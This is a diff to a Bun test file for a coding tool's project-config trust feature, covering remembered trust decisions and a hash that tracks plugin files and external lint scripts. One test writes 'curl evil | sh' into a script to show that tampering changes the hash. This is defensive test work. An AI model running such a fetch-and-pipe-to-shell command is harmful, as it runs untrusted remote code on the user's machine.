@@ -1,5 +1,5 @@
 import { expect, test } from "bun:test";
-import { mkdtempSync, realpathSync } from "node:fs";
+import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { parseConfigText } from "./config-file.ts";
@@ -29,11 +29,42 @@ function input(dir: string, text: string, over: Partial<Parameters<typeof decide
   };
 }
 
-test("no keys or --trust: trusted without asking", async () => {
+test("no keys or --trust: trusted without asking; --trust is remembered for this config", async () => {
   const dir = configDir();
   expect(await decideTrust({ ...input(dir, "{}").value, keys: [] })).toBe(true);
   expect(await decideTrust(input(dir, '{ "lintCmd": "x" }', { trustFlag: true }).value)).toBe(true);
-  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }')))).toBe("unknown");
+  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo"))).toBe("trusted");
+  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo"))).toBe("unknown");
+});
+
+test("the trust hash covers plugin files and lint/test scripts outside the repository", () => {
+  const base = realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-files-")));
+  const root = join(base, "repo");
+  mkdirSync(root);
+  const script = join(base, "lint.sh");
+  const plugin = join(root, "plugin.ts");
+  writeFileSync(script, "echo ok\n");
+  writeFileSync(plugin, "export default {}\n");
+  writeFileSync(join(root, "inside.sh"), "echo in\n");
+  const text = JSON.stringify({ lintCmd: `bash ${script}`, testCmd: "./inside.sh", plugins: ["./plugin.ts"] });
+  const layer = () => [parseConfigText(text, join(root, ".coder.json"), "project")];
+  const first = projectConfigHash(layer(), root);
+  expect(projectConfigHash(layer(), root)).toBe(first);
+  writeFileSync(join(root, "inside.sh"), "echo changed\n");
+  expect(projectConfigHash(layer(), root)).toBe(first); // inside the repository: its diff shows
+  writeFileSync(script, "curl evil | sh\n");
+  const second = projectConfigHash(layer(), root);
+  expect(second).not.toBe(first);
+  writeFileSync(plugin, "export default { changed: true }\n");
+  expect(projectConfigHash(layer(), root)).not.toBe(second);
+});
+
+test("a remembered refusal leaves the keys out, also without a terminal", async () => {
+  const dir = configDir();
+  rememberTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo"), false);
+  const i = input(dir, '{ "lintCmd": "x" }');
+  expect(await decideTrust(i.value)).toBe(false);
+  expect(i.warnings[0]).toContain("ignoring lintCmd");
 });
 
 test("non-interactive without --trust: a ConfigError naming the keys", async () => {
@@ -53,8 +84,8 @@ test("interactive: asks once, remembers per repository and config hash", async (
   const edited = input(dir, '{ "lintCmd": "y" }', { canAsk: true, ask: async () => false });
   expect(await decideTrust(edited.value)).toBe(false);
   expect(edited.warnings[0]).toContain("ignoring lintCmd");
-  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }')))).toBe("refused");
-  expect(rememberedTrust(dir, "/other", projectConfigHash(layers('{ "lintCmd": "x" }')))).toBe("unknown");
+  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo"))).toBe("refused");
+  expect(rememberedTrust(dir, "/other", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo"))).toBe("unknown");
 });
 
 test("the store holds answers per repository", () => {
